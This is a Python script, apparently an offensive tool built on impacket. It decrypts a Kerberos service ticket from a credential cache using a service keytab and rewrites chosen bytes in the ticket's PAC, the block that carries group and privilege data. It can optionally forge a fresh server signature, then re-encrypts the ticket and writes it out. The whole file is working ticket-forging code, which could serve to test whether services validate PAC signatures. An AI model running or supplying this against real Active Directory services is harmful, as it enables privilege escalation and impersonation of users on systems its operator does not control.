"""Changes bytes of the PAC in a ticket and seals the ticket again: only the signature in the PAC tells, unless it is made anew, too.

Arguments: ccache to read, ccache to write, keytab, principal of the service, bytes to look for (hex), bytes to put there (hex),
and "sign" or "keep" for the signature that is made with the service's key.
"""
import os
import struct
import sys

from impacket.krb5 import crypto
from impacket.krb5.asn1 import AD_IF_RELEVANT, EncTicketPart, Ticket
from impacket.krb5.ccache import CCache
from impacket.krb5.keytab import Keytab
from pyasn1.codec.der import decoder

# Usages of the key: of a ticket (RFC 4120 section 7.5.1), of signatures of a PAC ([MS-PAC] 2.8).
TICKET, SIGNATURE = 2, 17
SHA1_AES256, SIGNATURE_LENGTH = 16, 12
# Kinds of buffers of a PAC ([MS-PAC] 2.4).
SERVER, KDC = 6, 7


def signed(pac, key):
    """The PAC with the server's signature made anew ([MS-PAC] 2.8.1): both signatures count as zeros in it."""
    count = struct.unpack_from("<L", pac)[0]
    buffers = [struct.unpack_from("<LLQ", pac, 8 + 16 * i) for i in range(count)]
    places = {kind: offset + 4 for kind, _, offset in buffers if kind in (SERVER, KDC)}
    blank = bytearray(pac)
    for place in places.values():
        blank[place : place + SIGNATURE_LENGTH] = bytes(SIGNATURE_LENGTH)
    made = bytearray(pac)
    made[places[SERVER] : places[SERVER] + SIGNATURE_LENGTH] = crypto.make_checksum(SHA1_AES256, key, SIGNATURE, bytes(blank))
    return bytes(made)


source, target, keytab, service, wanted, instead, signature = sys.argv[1:]
before, after = bytes.fromhex(wanted), bytes.fromhex(instead)

cache = CCache.loadFile(source)
ticket = cache.credentials[0].ticket
part = decoder.decode(ticket["data"], asn1Spec=Ticket())[0]["enc-part"]
sealed = bytes(part["cipher"])
block = Keytab.loadFile(keytab).getKey(service, int(part["etype"]))
key = crypto.Key(block["keytype"], block["keyvalue"]["data"])
plain = crypto.decrypt(key, TICKET, sealed)
wrapped = decoder.decode(plain, asn1Spec=EncTicketPart())[0]["authorization-data"][0]["ad-data"]
pac = bytes(decoder.decode(wrapped, asn1Spec=AD_IF_RELEVANT())[0][0]["ad-data"])
assert pac.count(before) == 1 and len(before) == len(after), "the PAC has no such place, or several"
changed = pac.replace(before, after)
if signature == "sign":
    changed = signed(changed, key)
ticket["data"] = ticket["data"].replace(sealed, crypto.encrypt(key, TICKET, plain.replace(pac, changed), os.urandom(16)))
cache.saveFile(target)
